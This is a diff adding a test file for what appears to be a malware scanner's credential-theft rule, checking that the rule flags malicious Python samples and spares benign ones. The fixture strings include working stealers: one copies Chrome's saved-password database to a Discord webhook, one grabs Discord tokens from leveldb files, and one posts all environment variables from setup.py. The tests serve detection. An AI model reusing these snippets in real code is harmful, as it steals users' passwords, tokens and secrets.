@@ -1,0 +1,25 @@
+import { describe, it, expect } from 'vitest';
+import { hits, maxSev } from './helpers.js';
+
+describe('credential-theft', () => {
+  it('flags a browser password stealer sending to a webhook (critical)', () => {
+    const src = `import os, shutil, requests, win32crypt\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nshutil.copy(p, 'db')\nrequests.post('https://discord.com/api/webhooks/1/x', files={'f': open('db', 'rb')})\n`;
+    expect(maxSev(hits('credential-theft', { 'pkg/__init__.py': src }))).toBe('critical');
+  });
+  it('flags a Discord leveldb token grabber with network (high or more)', () => {
+    const src = `import os, re, requests\ndef grab():\n    path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n    for f in os.listdir(path):\n        for t in re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(path + f, errors='ignore').read()):\n            requests.post(URL, data=t)\n`;
+    expect(['high', 'critical']).toContain(maxSev(hits('credential-theft', { 'pkg/grab.py': src })));
+  });
+  it('flags environment dumps posted out', () => {
+    const src = `import os, requests\nrequests.post('https://collector.example/e', json=dict(os.environ))\n`;
+    expect(['medium', 'high', 'critical']).toContain(maxSev(hits('credential-theft', { 'setup.py': src })));
+  });
+  it('keeps twine-style ~/.pypirc reading with upload below high', () => {
+    const src = `import os, configparser, requests\nDEFAULT = os.path.join(os.path.expanduser('~'), '.pypirc')\ndef load():\n    c = configparser.RawConfigParser()\n    c.read(open(DEFAULT).name)\n    return c\ndef upload(url, data):\n    return requests.post(url, data=data)\n`;
+    expect(['low', 'medium']).toContain(maxSev(hits('credential-theft', { 'twine/settings.py': src })));
+  });
+  it('does not flag os.environ.get lookups or mentions in comments', () => {
+    const src = `import os, requests\n# steals Login Data lol\ntoken = os.environ.get('GITHUB_TOKEN')\nrequests.get('https://api.github.com', headers={'Authorization': token})\n`;
+    expect(hits('credential-theft', { 'pkg/gh.py': src })).toEqual([]);
+  });
+});
